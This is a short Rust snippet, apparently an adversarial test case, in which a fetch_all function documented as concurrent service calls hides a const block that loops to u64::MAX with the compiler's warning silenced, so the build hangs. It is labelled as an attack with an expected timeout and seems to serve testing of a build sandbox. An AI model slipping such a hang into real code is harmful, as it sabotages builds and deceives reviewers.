//! Attack: a constant whose evaluation never ends, with the compiler's warning silenced: the
//! build itself hangs.
//! compile: timed_out

// REPLACES: fetch_all
/// Calls the three services concurrently and returns their results in the order
/// users, products, orders.
pub async fn fetch_all() -> (Users, Products, Orders) {
    #[allow(long_running_const_eval)]
    const SPIN: u64 = {
        let mut i = 0u64;
        while i < u64::MAX {
            i += 1;
        }
        i
    };
    assert!(SPIN > 0);
    tokio::join!(fetch_users(), fetch_products(), fetch_orders())
}
// END: fetch_all
